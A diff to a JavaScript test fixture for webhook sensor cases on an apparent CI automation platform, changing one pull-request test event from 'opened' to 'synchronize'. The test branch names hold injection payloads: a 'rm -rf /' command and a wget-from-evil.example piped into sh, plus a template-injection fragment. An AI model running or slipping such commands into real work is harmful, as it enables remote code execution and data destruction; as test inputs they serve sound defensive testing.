@@ -200,7 +200,9 @@ const sensorCases = (() => {
   const merged = pullRequestEvent('closed', { branch: "feature/x'; rm -rf / #" });
   merged.pull_request.merged = true;
   return [
-    ['platform-pr-validation', 'pull_request', pullRequestEvent('opened', { branch: 'task-1-$(wget${IFS}-qO-${IFS}evil.example|sh)\n{{=1+}}' })],
+    // synchronize: pr-validation takes it, the pr-opened function does not, so no 404 for task 1 is retried
+    // in pr-opened's Sensor while later tests send it events (a permanent answer blocks its queue: issue 14).
+    ['platform-pr-validation', 'pull_request', pullRequestEvent('synchronize', { branch: 'task-1-$(wget${IFS}-qO-${IFS}evil.example|sh)\n{{=1+}}' })],
     ['platform-comment-to-rex', 'issue_comment', comment],
     ['platform-ci-failure-triage', 'workflow_run', run],
     ['platform-issue-implementation', 'issues', issue],
